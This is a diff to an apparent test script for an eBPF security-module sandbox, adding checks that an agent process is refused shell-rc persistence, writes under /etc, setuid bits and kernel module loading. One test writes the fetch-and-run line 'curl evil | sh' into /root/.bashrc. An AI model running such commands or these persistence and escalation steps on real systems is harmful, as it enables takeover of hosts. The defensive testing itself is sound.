@@ -84,7 +84,7 @@ SRV=/srv/x
 PORT=7777
 # The programs of ebpf/tcpk_lsm.bpf.c, one per hook.
 HOOKS="bprm_check_security task_alloc task_free file_open file_permission
-path_unlink path_rmdir path_rename path_chmod socket_create socket_connect
+path_mknod path_unlink path_rmdir path_rename path_chmod socket_create socket_connect
 socket_sendmsg mmap_file file_mprotect msg_queue_msgsnd shm_shmat capable
 task_kill ptrace_access_check"
 NHOOKS=$(echo "$HOOKS" | wc -w)
@@ -414,6 +414,29 @@ tap_check "agent $AGENT: writes the script $WS/p, chmod +x, exec (inside the wor
 		printf "#!/bin/sh\necho ws-wrote\n" > "$1/p" &&
 		chmod 755 "$1/p" &&
 		"$1/p" | grep -qx ws-wrote' sh "$WS"
+# The rest of the default policy, live: persistence in a shell rc file,
+# a write under /etc, a setuid file (even in the workspace), loading a
+# kernel module (CAP_SYS_MODULE, refused before the module is read: an
+# allowed insmod of the loaded module would say "File exists").
+echo '# root rc' > /root/.bashrc
+expect_fail "agent $AGENT: echo >> /root/.bashrc refused (persistence)" "Permission denied" \
+	agent sh -c 'echo "curl evil | sh" >> /root/.bashrc'
+tap_check "... /root/.bashrc is unchanged" grep -qx '# root rc' /root/.bashrc
+expect_fail "agent $AGENT: a new file under /etc refused" "Permission denied" \
+	agent sh -c 'echo x > /etc/tcpk50-new'
+tap_check "... /etc/tcpk50-new was not created (path_mknod refused it before it existed)" \
+	test ! -e /etc/tcpk50-new
+tap_check "monitor: a deny event of agent $AGENT's open of /etc/tcpk50-new" \
+	mon_has "\"agent\":\"$AGENT\"" '"op":"open"' '"path":"/etc/tcpk50-new"' '"verdict":"deny"'
+tap_check "agent $AGENT: chmod 755 of a file in $WS works" \
+	agent sh -c 'echo x > "$1/s" && chmod 755 "$1/s"' sh "$WS"
+expect_fail "agent $AGENT: chmod 4755 of it (setuid) refused" \
+	"Permission denied|Operation not permitted" agent chmod 4755 "$WS/s"
+tap_check "... it has no setuid bit" sh -c "test ! -u '$WS/s'"
+expect_fail "agent $AGENT: insmod refused (CAP_SYS_MODULE)" "Operation not permitted" \
+	agent insmod "/lib/modules/$(uname -r)/extra/$MOD.ko"
+tap_check "monitor: a deny event of agent $AGENT's CAP_SYS_MODULE use" \
+	mon_has "\"agent\":\"$AGENT\"" '"op":"capable"' '"verdict":"deny"'
 section_end
 
 # === 5. connect ========================================================================
